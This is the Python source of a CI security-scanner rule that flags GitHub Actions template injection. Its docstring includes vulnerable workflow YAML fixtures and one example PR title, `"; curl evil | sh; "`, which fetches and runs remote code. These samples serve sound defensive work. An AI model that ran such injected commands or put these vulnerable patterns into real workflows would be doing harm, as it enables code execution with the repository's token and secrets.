from __future__ import annotations

from collections.abc import Iterator

from gatekeeper import Finding, Fix, Note, Unknown
from gatekeeper.models.pipeline.github.subjects import GithubJob
from gatekeeper.models.pipeline.github.untrusted import PRIVILEGED, Hit, Scope, action_of, hits, script_of, triggers_of
from gatekeeper.models.pipeline.ir import pairs, text_of
from gatekeeper.node import Node
from gatekeeper.rule import Spot, rule


def _pastes(job: GithubJob) -> bool:
    """Whether anything is put into a script of the job, or handed to what it calls."""
    if job.pipeline.caller is not None:
        return False
    if job.called:
        return any("${{" in text_of(node) for _, node in pairs(job.node["with"]))
    for step in job.steps:
        node = script_of(step)
        if (node is not None and "${{" in text_of(node)) or action_of(step) is not None:
            return True
    return False


def _hits(job: GithubJob) -> Iterator[Hit]:
    for step in job.steps:
        yield from hits(step, Scope(job, step))
    for inner in job.called.all_jobs if job.called else ():
        for step in inner.steps:
            for hit in hits(step, Scope(inner, step)):
                if any(part.startswith("inputs.") for part in hit.taint.trail):  # the rest is said where it is written
                    yield hit


def _handed(job: GithubJob, hit: Hit) -> Node:
    """Where the job hands the text to the workflow or the action that puts it into a script."""
    user = next((step for step in job.steps if step.node["uses"].present and _runs(step.node["uses"], hit)), None)
    givers = user.node["with"] if user is not None else job.node["with"]
    names = {part.removeprefix("inputs.") for part in hit.taint.trail if part.startswith("inputs.")}
    node = next((value for key, value in pairs(givers) if key.lower() in names), None)
    return node or (user.node["uses"] if user is not None else job.uses_at)


def _runs(uses: Node, hit: Hit) -> bool:
    folder = hit.at.source.path.rpartition("/")[0]
    return bool(folder) and text_of(uses).partition("@")[0].rstrip("/").endswith(folder)


@rule(
    "pipeline-template-injection",
    gate="workflow-security",
    severity="high",
    seed="6.1 Security Hardening",
    aliases=["CKV_GHA_2", "zizmor:template-injection", "actionlint:untrusted-input"],
    where=_pastes,
)
def template_injection(job: GithubJob) -> Iterator[Finding | Unknown]:
    """No script has text pasted into it that anybody may write.

    `${{ }}` is put into a script before the shell reads it: a pull request titled `"; curl evil | sh; "` becomes part
    of the program, which runs with the job's token and secrets. Titles, bodies, comments, commit messages and the names
    of branches of pull requests are such texts. Hand them over as environment variables: the shell does not parse
    those.

    Judged are the contexts that GitHub's own hardening guide lists, in `run:` and in the inputs of actions that run
    them (`actions/github-script` and others). They are followed through `env`, the outputs of steps and jobs, and the
    inputs of composite actions and reusable workflows of this repository. What a script makes of such a text before it
    becomes an output is UNKNOWN. Comparing such a text (`==`, `contains`) pastes only true or false, and a text of an
    event for which the job never runs is empty. What only people with rights here choose (the inputs of a manual start,
    the branches and tags of the repository itself) is not judged; zizmor shows those as well. Where only `pull_request`
    brings it, a fork's run has no secrets and a token that only reads: medium.

    Bad:
    ```yaml
    on: pull_request_target
    jobs:
      greet:
        runs-on: ubuntu-latest
        steps:
          # expect: github.event.pull_request.title
          - run: echo "${{ github.event.pull_request.title }}"
          - run: |
              set -e
              # expect: github.head_ref
              git checkout ${{ github.head_ref || github.ref_name }}
    ```

    Bad, by way of a variable and an output:
    ```yaml
    on: issue_comment
    jobs:
      read:
        runs-on: ubuntu-latest
        outputs: {words: "${{ steps.body.outputs.words }}"}
        env: {BODY: "${{ github.event.comment.body }}"}
        steps:
          - id: body
            run: echo "words=$BODY" >> "$GITHUB_OUTPUT"
          # expect: github.event.comment.body
          - run: echo ${{ env.BODY }}
      answer:
        needs: read
        runs-on: ubuntu-latest
        steps:
          # expect: github.event.comment.body
          - run: ./answer.sh '${{ needs.read.outputs.words }}'
    ```

    Bad, in an action of the repository:
    ```yaml .github/workflows/triage.yml
    on: issues
    jobs:
      triage:
        runs-on: ubuntu-latest
        steps:
          - uses: actions/checkout@v4
          - uses: ./.github/actions/say
            with:
              # expect: github.event.issue.title
              words: ${{ github.event.issue.title }}
    ```
    ```yaml .github/actions/say/action.yml
    name: say
    inputs: {words: {required: true}}
    runs:
      using: composite
      steps:
        - run: echo "${{ inputs.words }}"
          shell: bash
    ```

    Good:
    ```yaml
    on: [pull_request, push]
    jobs:
      greet:
        runs-on: ubuntu-latest
        steps:
          - run: echo "$TITLE" ${{ github.sha }} ${{ github.event.pull_request.number }}
            env:
              TITLE: ${{ github.event.pull_request.title }}
          - run: echo ${{ contains(github.event.pull_request.title, 'WIP') }}
      comment:
        if: github.event_name == 'push'
        runs-on: ubuntu-latest
        steps:
          - run: echo "${{ github.head_ref }}"
    ```

    Unknown:
    ```yaml
    on: issues
    jobs:
      triage:
        runs-on: ubuntu-latest
        steps:
          - id: slug
            run: echo "slug=$(echo "$TITLE" | tr -cd a-z)" >> "$GITHUB_OUTPUT"
            env: {TITLE: "${{ github.event.issue.title }}"}
          - run: ./label ${{ steps.slug.outputs.slug }}
    ```
    """
    for hit in _hits(job):
        triggers = triggers_of(hit.taint, job)
        if not triggers:
            continue
        here = hit.at.source is job.node.source
        at: Spot = hit.at if here else _handed(job, hit)
        see = () if here else (Note(hit.at, "it is pasted into this script"),)
        way = f" (by {', '.join(dict.fromkeys(hit.taint.trail))})" if hit.taint.trail else ""
        if not hit.taint.certain:
            yield Unknown(at, f"{hit.taint.path} may be pasted into the script{way}: what becomes of it is not known")
            continue
        fix = Fix(f'env: {{VALUE: ${{{{ {(*hit.taint.trail, hit.taint.path)[0]} }}}}}}, and "$VALUE" in the script')
        words = f"{hit.taint.path} is pasted into the script{way}: whoever writes it runs commands here"
        mild = not any(trigger.event in PRIVILEGED or trigger.ref in ("call", "push-default") for trigger in triggers)
        yield Finding(at, words, see, fix, severity="medium" if mild else None)
